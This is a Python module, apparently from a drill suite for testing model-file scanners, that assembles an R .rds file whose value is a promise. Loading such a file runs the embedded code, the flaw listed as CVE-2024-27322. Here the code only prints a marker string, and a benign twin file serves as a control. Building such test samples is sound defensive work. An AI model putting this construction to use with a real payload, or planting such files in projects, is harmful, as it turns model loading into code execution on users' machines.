"""R data with code that is evaluated when it is looked at."""

from __future__ import annotations

import struct
from pathlib import Path

from pratique.drill.attack import Attack, AttackPath

NIL, GLOBAL, UNBOUND = (struct.pack(">I", code) for code in (254, 253, 252))


def chars(text: bytes) -> bytes:
    return struct.pack(">II", 0x40009, len(text)) + text


def texts(*values: bytes) -> bytes:
    return struct.pack(">II", 16, len(values)) + b"".join(chars(value) for value in values)


def symbol(name: bytes) -> bytes:
    return struct.pack(">I", 1) + chars(name)


def call(function: bytes, argument: bytes) -> bytes:
    """`function(argument)`: a call, then its arguments as a pairlist."""
    return struct.pack(">I", 6) + symbol(function) + struct.pack(">I", 2) + argument + NIL


def promise(expression: bytes) -> bytes:
    """To be evaluated in the global environment: its tag; its value is not bound yet."""
    return struct.pack(">I", 0x405) + GLOBAL + UNBOUND + expression


def rds(item: bytes) -> bytes:
    return b"X\n" + struct.pack(">III", 2, 0x40400, 0x20300) + item


def build(folder: Path) -> None:
    (folder / "model.rds").write_bytes(rds(promise(call(b"print", texts(b"pratique-drill")))))


def twin(folder: Path) -> None:
    (folder / "model.rds").write_bytes(rds(call(b"print", texts(b"pratique-drill"))))


ATTACK = Attack(
    id="rds/promise",
    title="an R file whose value is a promise",
    path=AttackPath.MODEL,
    trips=("loading/rds-promise",),
    build=build,
    twin=twin,
    where="model.rds",
    references=("CWE-502", "CVE-2024-27322"),
)
